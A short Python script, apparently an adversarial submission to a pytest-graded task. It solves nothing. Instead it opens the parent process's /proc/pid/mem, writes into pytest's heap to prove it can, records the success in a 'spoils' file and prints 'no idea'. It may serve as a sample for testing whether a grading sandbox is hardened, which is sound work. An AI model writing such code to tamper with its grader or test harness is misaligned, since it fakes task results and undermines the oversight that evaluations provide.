"""Does not solve the task, and attacks instead."""

import os


def attack():
    """Write one word of pytest's heap back as it was, which is all it takes to write another."""
    pid = os.getppid()
    try:
        with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "r+b", 0) as memory:
            first = next(int(line.split("-")[0], 16) for line in maps if "[heap]" in line)
            memory.seek(first)
            word = memory.read(8)
            memory.seek(first)
            memory.write(word)
    except OSError:
        return
    with open("spoils.txt", "a") as spoils:
        spoils.write("wrote into the memory of %d\n" % pid)


if __name__ == "__main__":
    attack()
    print("no idea")
